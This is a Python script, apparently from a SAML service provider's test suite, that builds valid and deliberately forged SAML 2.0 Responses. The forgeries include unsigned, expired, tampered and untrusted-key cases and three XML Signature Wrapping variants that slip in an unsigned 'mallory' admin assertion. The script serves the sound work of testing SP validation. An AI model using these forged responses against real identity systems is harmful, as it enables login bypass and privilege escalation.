#!/usr/bin/env python3
"""Crafts SAML 2.0 Responses, good and deliberately bad, for Ward's attack tests.

    python3 craft.py --key idp-key.pem --cert idp-cert.pem --issuer IDP_ENTITY_ID \
        --audience SP_ENTITY_ID --recipient ACS_URL --in-response-to REQ_ID \
        --username alice --groups analysts,dev --attack NAME [--not-on-or-after-seconds N]

Prints the base64 SAMLResponse value (one line) on stdout.  The XML is built
by hand with lxml so every attack controls exactly what goes where, and
signed with xmlsec1 through pysaml2's CryptoBackendXmlSec1 (RSA-SHA256,
SHA-256 digests, exclusive C14N, enveloped signatures carrying the X.509
certificate).  Every run uses fresh Response and Assertion IDs.

Attacks (see README.md for the XML shape of the XSW variants):
  none                  correct response, assertion and response signed (the control)
  unsigned              no signature anywhere
  wrong-audience        Audience https://evil.example.com, signed
  wrong-recipient       SubjectConfirmationData Recipient another URL, signed
  expired               NotOnOrAfter 10 minutes ago (Conditions and SubjectConfirmationData), signed
  wrong-in-response-to  InResponseTo another ID (Response and SubjectConfirmationData), signed
  tampered              signed response whose NameID was changed to the evil user after signing
  other-key             signed with a fresh key/certificate the SP does not trust
  xsw-sibling           XSW: unsigned evil assertion placed before the signed one (alias: signature-wrapping)
  xsw-wrapped           XSW: signed assertion moved into the evil assertion's ds:Signature/ds:Object
  xsw-extensions        XSW: signed assertion moved into samlp:Extensions, evil assertion in its place
"""

import argparse
import base64
import copy
import datetime
import os
import secrets
import sys
import tempfile

from samlcommon import cert_base64, make_keypair, xmlsec_binary  # first: silences a pysaml2 import warning
from lxml import etree
from saml2.sigver import CryptoBackendXmlSec1


SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
NSMAP = {"samlp": SAMLP, "saml": SAML, "ds": DS, "xs": XS, "xsi": XSI}
ASSERTION_NODE = f"{SAML}:Assertion"  # xmlsec1 --id-attr:ID node names
RESPONSE_NODE = f"{SAMLP}:Response"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"

ATTACKS = ["none", "unsigned", "wrong-audience", "wrong-recipient", "expired", "wrong-in-response-to",
           "tampered", "other-key", "xsw-sibling", "xsw-wrapped", "xsw-extensions", "signature-wrapping"]


def el(parent, tag, attrib=None, text=None):
    """Adds a child element; tag is "prefix:name" with a prefix from NSMAP."""
    prefix, name = tag.split(":")
    node = etree.SubElement(parent, f"{{{NSMAP[prefix]}}}{name}", {k: v for k, v in (attrib or {}).items() if v})
    node.text = text
    return node


def instant(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id():
    return "_" + secrets.token_hex(16)  # IDs are xs:ID (NCName): must not start with a digit


def build_assertion(a, username, groups, now, not_on_or_after, recipient, in_response_to, audience):
    """An unsigned saml:Assertion (own namespace declarations so it can be moved around)."""
    assertion = etree.Element(f"{{{SAML}}}Assertion", nsmap=NSMAP,
                              attrib={"ID": new_id(), "Version": "2.0", "IssueInstant": instant(now)})
    el(assertion, "saml:Issuer", text=a.issuer)
    subject = el(assertion, "saml:Subject")
    el(subject, "saml:NameID", {"Format": "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"}, username)
    confirmation = el(subject, "saml:SubjectConfirmation", {"Method": "urn:oasis:names:tc:SAML:2.0:cm:bearer"})
    el(confirmation, "saml:SubjectConfirmationData",
       {"InResponseTo": in_response_to, "NotOnOrAfter": instant(not_on_or_after), "Recipient": recipient})
    conditions = el(assertion, "saml:Conditions",
                    {"NotBefore": instant(min(now, not_on_or_after) - datetime.timedelta(minutes=5)),
                     "NotOnOrAfter": instant(not_on_or_after)})
    el(el(conditions, "saml:AudienceRestriction"), "saml:Audience", text=audience)
    authn = el(assertion, "saml:AuthnStatement", {"AuthnInstant": instant(now), "SessionIndex": new_id()})
    el(el(authn, "saml:AuthnContext"), "saml:AuthnContextClassRef",
       text="urn:oasis:names:tc:SAML:2.0:ac:classes:Password")
    statement = el(assertion, "saml:AttributeStatement")
    attributes = {"uid": [username], "groups": groups}
    if a.email:
        attributes["email"] = [a.email]
    for name, values in attributes.items():
        attribute = el(statement, "saml:Attribute",
                       {"Name": name, "NameFormat": "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"})
        for value in values:
            el(attribute, "saml:AttributeValue", {f"{{{XSI}}}type": "xs:string"}, value)
    return assertion


def build_response(a, destination, in_response_to, now):
    """A samlp:Response with Issuer and a Success Status, no assertion yet."""
    response = etree.Element(f"{{{SAMLP}}}Response", nsmap=NSMAP, attrib={
        "ID": new_id(), "Version": "2.0", "IssueInstant": instant(now),
        "Destination": destination, "InResponseTo": in_response_to})
    el(response, "saml:Issuer", text=a.issuer)
    el(el(response, "samlp:Status"), "samlp:StatusCode", {"Value": "urn:oasis:names:tc:SAML:2.0:status:Success"})
    return response


def signature_template(ref_id, cert_file):
    """An empty enveloped ds:Signature for #ref_id that xmlsec1 fills in."""
    sig = etree.Element(f"{{{DS}}}Signature", nsmap={"ds": DS})
    info = el(sig, "ds:SignedInfo")
    el(info, "ds:CanonicalizationMethod", {"Algorithm": EXC_C14N})
    el(info, "ds:SignatureMethod", {"Algorithm": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"})
    ref = el(info, "ds:Reference", {"URI": f"#{ref_id}"})
    transforms = el(ref, "ds:Transforms")
    el(transforms, "ds:Transform", {"Algorithm": "http://www.w3.org/2000/09/xmldsig#enveloped-signature"})
    el(transforms, "ds:Transform", {"Algorithm": EXC_C14N})
    el(ref, "ds:DigestMethod", {"Algorithm": "http://www.w3.org/2001/04/xmlenc#sha256"})
    el(ref, "ds:DigestValue")
    el(sig, "ds:SignatureValue")
    el(el(el(sig, "ds:KeyInfo"), "ds:X509Data"), "ds:X509Certificate", text=cert_base64(cert_file))
    return sig


def sign(doc, node, node_name, key_file, cert_file):
    """Signs `node` (an element of `doc`, the root) in place; returns the new root.

    The ds:Signature goes right after the node's saml:Issuer, as the schema wants."""
    issuer = node.find(f"{{{SAML}}}Issuer")
    issuer.addnext(signature_template(node.get("ID"), cert_file))
    signed = CryptoBackendXmlSec1(xmlsec_binary()).sign_statement(
        etree.tostring(doc, encoding="unicode"), node_name, key_file, node.get("ID"))
    return etree.fromstring(signed.encode())


def by_id(doc, node_id):
    return doc.xpath("//*[@ID=$id]", id=node_id)[0]


def craft(a):
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    not_on_or_after = now + datetime.timedelta(seconds=a.not_on_or_after_seconds)
    audience, recipient, in_response_to = a.audience, a.recipient, a.in_response_to
    attack = "xsw-sibling" if a.attack == "signature-wrapping" else a.attack
    if attack == "wrong-audience":
        audience = "https://evil.example.com"
    elif attack == "wrong-recipient":
        recipient = "https://evil.example.com/acs"
    elif attack == "expired":
        not_on_or_after = now - datetime.timedelta(minutes=10)
    elif attack == "wrong-in-response-to":
        in_response_to = new_id()

    key_file, cert_file = a.key, a.cert
    if attack == "other-key":
        tmp = tempfile.mkdtemp(prefix="craft-")
        key_file, cert_file = os.path.join(tmp, "key.pem"), os.path.join(tmp, "cert.pem")
        make_keypair("Attacker IdP", key_file, cert_file)

    groups = [g for g in a.groups.split(",") if g]
    # Destination stays the real ACS in every attack: only the named check is broken.
    doc = build_response(a, a.recipient, in_response_to, now)
    doc.append(build_assertion(a, a.username, groups, now, not_on_or_after, recipient, in_response_to, audience))
    if a.assertion_id:
        doc.find(f"{{{SAML}}}Assertion").set("ID", a.assertion_id)
    assertion_id = doc.find(f"{{{SAML}}}Assertion").get("ID")

    if attack == "unsigned":
        pass
    elif attack.startswith("xsw-"):
        # Sign alice's assertion only (the Response stays unsigned), then wrap.
        doc = sign(doc, by_id(doc, assertion_id), ASSERTION_NODE, key_file, cert_file)
        doc = wrap(a, doc, by_id(doc, assertion_id), attack, now, not_on_or_after, in_response_to)
    else:
        doc = sign(doc, by_id(doc, assertion_id), ASSERTION_NODE, key_file, cert_file)
        doc = sign(doc, doc, RESPONSE_NODE, key_file, cert_file)
        if attack == "tampered":
            doc.find(f".//{{{SAML}}}NameID").text = a.evil_username
    return etree.tostring(doc, xml_declaration=True, encoding="UTF-8")


def wrap(a, doc, signed, attack, now, not_on_or_after, in_response_to):
    """Builds the XSW response around the signed assertion `signed` (see README.md)."""
    evil = build_assertion(a, a.evil_username, a.evil_groups.split(","), now, not_on_or_after,
                           a.recipient, in_response_to, a.audience)
    status = doc.find(f"{{{SAMLP}}}Status")
    if attack == "xsw-sibling":
        # Response > Issuer, Status, Assertion(evil), Assertion(signed)
        signed.addprevious(evil)
    elif attack == "xsw-wrapped":
        # Response > Issuer, Status, Assertion(evil > Issuer,
        #     ds:Signature(copy of signed's SignedInfo/SignatureValue/KeyInfo, ds:Object > Assertion(signed)),
        #     Subject, ...)
        doc.remove(signed)
        original_sig = signed.find(f"{{{DS}}}Signature")
        fake_sig = copy.deepcopy(original_sig)
        el(fake_sig, "ds:Object").append(signed)
        evil.find(f"{{{SAML}}}Issuer").addnext(fake_sig)
        status.addnext(evil)
    elif attack == "xsw-extensions":
        # Response > Issuer, Extensions > Assertion(signed), Status, Assertion(evil)
        doc.remove(signed)
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        extensions.append(signed)
        status.addprevious(extensions)
        status.addnext(evil)
    return doc


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--key", required=True, help="IdP signing key (PEM)")
    p.add_argument("--cert", required=True, help="IdP signing certificate (PEM)")
    p.add_argument("--issuer", required=True, help="IdP entity id")
    p.add_argument("--audience", required=True, help="SP entity id")
    p.add_argument("--recipient", required=True, help="SP AssertionConsumerService URL")
    p.add_argument("--in-response-to", required=True, help="the AuthnRequest ID")
    p.add_argument("--username", default="alice")
    p.add_argument("--groups", default="", help="comma separated")
    p.add_argument("--email", default=None)
    p.add_argument("--evil-username", default="mallory", help="NameID of the XSW/tampered assertion")
    p.add_argument("--evil-groups", default="admins", help="groups of the XSW assertion, comma separated")
    p.add_argument("--attack", required=True, choices=ATTACKS)
    p.add_argument("--not-on-or-after-seconds", type=int, default=300, help="assertion lifetime (default 300)")
    p.add_argument("--xml", action="store_true", help="print the XML instead of base64 (debugging)")
    p.add_argument("--assertion-id", default=None,
                   help="use this assertion ID instead of a fresh one (to test replay detection)")
    a = p.parse_args(argv)
    xml = craft(a)
    sys.stdout.write((xml.decode() if a.xml else base64.b64encode(xml).decode()) + "\n")


if __name__ == "__main__":
    main()
